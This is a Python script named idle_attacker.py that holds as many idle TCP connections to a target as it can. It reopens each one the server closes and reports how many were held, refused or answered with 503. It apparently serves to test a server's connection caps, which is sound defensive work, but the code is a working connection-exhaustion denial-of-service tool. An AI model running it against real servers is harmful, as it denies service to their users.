"""Holds as many idle connections as it can (sending nothing), reopening each one the server
closes, for DURATION seconds; prints how many it held and how often the server closed them.

    python3 idle_attacker.py HOST PORT COUNT DURATION [SOURCE_ADDRESS]
"""
import selectors
import socket
import sys
import time

host, port, count, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
source = sys.argv[5] if len(sys.argv) > 5 else None

selector = selectors.DefaultSelector()
opened = closed_by_server = refused = answered_503 = 0
held_max = 0
opened_at = {}
closed_quickly = 0  # within 5 s of connecting: refused over the cap


def open_one():
    global opened, refused
    s = socket.socket()
    s.setblocking(False)
    if source:
        s.bind((source, 0))
    try:
        s.connect_ex((host, port))
    except OSError:
        refused += 1
        s.close()
        return
    selector.register(s, selectors.EVENT_READ)
    opened_at[s] = time.time()
    opened += 1


end = time.time() + duration
for _ in range(count):
    open_one()
last_report = time.time()
while time.time() < end:
    for key, _ in selector.select(timeout=0.5):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if data.startswith(b"HTTP/1.1 503"):
            answered_503 += 1
        if not data:
            global_closed = time.time() - opened_at.pop(s, 0)
            if global_closed < 5:
                closed_quickly += 1
            closed_by_server += 1
            selector.unregister(s)
            s.close()
            open_one()  # the attacker comes straight back
    # Held: connected for more than 5 s, i.e. admitted rather than about to be refused.
    now = time.time()
    held = sum(1 for t in opened_at.values() if now - t > 5)
    held_max = max(held_max, held)
    if time.time() - last_report > 10:
        print(f"idle attacker: holding {held}", file=sys.stderr, flush=True)
        last_report = time.time()

print(f"RESULT target={count} opened={opened} held_max={held_max} closed_by_server={closed_by_server} "
      f"refused_within_5s={closed_quickly} connect_errors={refused}", flush=True)
